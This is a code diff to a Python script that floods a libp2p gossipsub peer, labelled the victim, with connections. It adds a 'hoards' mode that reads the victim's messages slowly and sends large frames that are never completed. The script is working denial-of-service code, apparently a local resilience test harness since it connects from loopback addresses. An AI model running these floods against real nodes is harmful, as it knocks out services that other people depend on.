@@ -7,6 +7,7 @@ KIND     idle: handshake, speak gossip, say nothing        half: stop after the 
          names: a protocol's name of 16 MiB on each stream, against the window
          frames: a frame of 2 MiB of which three quarters come
          unread: data without end, against the window, on the stream on which the victim only writes
+         hoards: read slowly what the victim passes on, and send it 2.5 MiB of frames of which the end never comes
 SOURCES  the connections come from 127.0.0.2 and as many addresses after it; 0 = from 127.0.0.1
 """
 
@@ -59,6 +60,11 @@ async def write(stream: Any) -> None:
         await stream.write(bytes(2**16))
 
 
+async def read_slowly(stream: Any) -> None:
+    while await stream.read(2**16):
+        await trio.sleep(0.7)
+
+
 async def crowd(address: str, kind: str, source: str) -> None:
     """One key after another, each for as long as it may stay."""
     victim = info_from_p2p_addr(Multiaddr(address))
@@ -66,7 +72,7 @@ async def crowd(address: str, kind: str, source: str) -> None:
         tcp = SourcedTCP(source)
         host = make_host(tcp)
         for protocol in (PROTOCOL_ID_V11, PROTOCOL_ID_V12):
-            host.set_stream_handler(protocol, write if kind == "unread" else read)
+            host.set_stream_handler(protocol, {"unread": write, "hoards": read_slowly}.get(kind, read))
         try:
             async with host.run(listen_addrs=[]):
                 if kind == "half":
@@ -80,6 +86,16 @@ async def crowd(address: str, kind: str, source: str) -> None:
                     await KINDS[kind](host, victim.peer_id)
         except (Exception, BaseExceptionGroup):  # whatever the library makes of being hung up on
             await trio.sleep(0.2)
+
+
+async def speaking(host: Any, victim: Any) -> Attacker:
+    """One that has subscribed."""
+    stream = await host.new_stream(victim, [PROTOCOL_ID_V11])
+    keys = KeyPair(host.get_private_key(), host.get_public_key())
+    attacker = Attacker(host, keys, victim, stream, SWARM, 1)
+    hello = rpc_pb2.RPC(subscriptions=[rpc_pb2.RPC.SubOpts(subscribe=True, topicid=attacker.topic)])
+    await attacker.raw(encode_varint_prefixed(hello.SerializeToString()))
+    return attacker
 
 
 async def idle(host: Any, victim: Any) -> None:
@@ -116,18 +132,26 @@ async def frames(host: Any, victim: Any) -> None:
     await muxed.event_closed.wait()
 
 
+async def hoards(host: Any, victim: Any) -> None:
+    attacker = await speaking(host, victim)
+    graft = rpc_pb2.ControlMessage(graft=[rpc_pb2.ControlGraft(topicID=attacker.topic)])
+    await attacker.raw(encode_varint_prefixed(rpc_pb2.RPC(control=graft).SerializeToString()))
+    others = [await host.new_stream(victim, [PROTOCOL_ID_V11]) for _ in range(2)]
+    for stream in (attacker.stream, *others):
+        await stream.write(encode_uvarint(2**20) + bytes(5 * 2**20 // 6))
+    await host.get_network().get_connections(victim)[0].muxed_conn.event_closed.wait()
+
+
 async def valid(host: Any, victim: Any) -> None:
-    stream = await host.new_stream(victim, [PROTOCOL_ID_V11])
-    keys = KeyPair(host.get_private_key(), host.get_public_key())
-    attacker = Attacker(host, keys, victim, stream, SWARM, 1)
-    hello = rpc_pb2.RPC(subscriptions=[rpc_pb2.RPC.SubOpts(subscribe=True, topicid=attacker.topic)])
-    await attacker.raw(encode_varint_prefixed(hello.SerializeToString()))
+    attacker = await speaking(host, victim)
     while host.get_network().get_connections(victim):
         await attacker.send(attacker.message(attacker.sealed()))
         await trio.sleep(5)
 
 
-KINDS = {"idle": idle, "unread": idle, "push": push, "names": names, "frames": frames, "valid": valid}
+KINDS = {
+    "idle": idle, "unread": idle, "push": push, "names": names, "frames": frames, "valid": valid, "hoards": hoards
+}  # fmt: skip
 
 
 async def main(address: str, kind: str, keys: int, sources: int) -> None:
